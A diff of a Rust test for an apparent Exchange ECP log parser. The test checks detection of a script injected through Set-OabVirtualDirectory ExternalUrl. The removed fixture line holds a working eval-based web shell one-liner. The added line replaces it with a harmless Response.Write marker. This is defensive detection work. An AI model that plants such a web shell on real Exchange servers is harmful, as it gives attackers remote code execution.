@@ -189,14 +189,14 @@ mod tests {
 
     #[test]
     fn script_in_external_url() {
-        let l = r#"2021-02-11T04:30:58.214Z,EX01,ECP.Request,"S:TIME=402;'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://k/<script language=""JScript"" runat=""server"">function Page_Load(){eval(Request[""zq7w""],""unsafe"");}</script>''.Identity=''5d0c''';S:BLD=15.1.2106.2""#;
+        let l = r#"2021-02-11T04:30:58.214Z,EX01,ECP.Request,"S:TIME=402;'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://k/<script language=""JScript"" runat=""server"">function Page_Load(){Response.Write(""exhunt-test-zq7w"");}</script>''.Identity=''5d0c''';S:BLD=15.1.2106.2""#;
         let f = ecp(l);
         assert_eq!(f.len(), 1);
         assert_eq!(f[0].field("Parameter"), Some("ExternalUrl"));
         assert!(
             f[0].field("Value")
                 .unwrap()
-                .contains("eval(Request[\"zq7w\"]")
+                .contains("Response.Write(\"exhunt-test-zq7w\")")
         );
     }
 
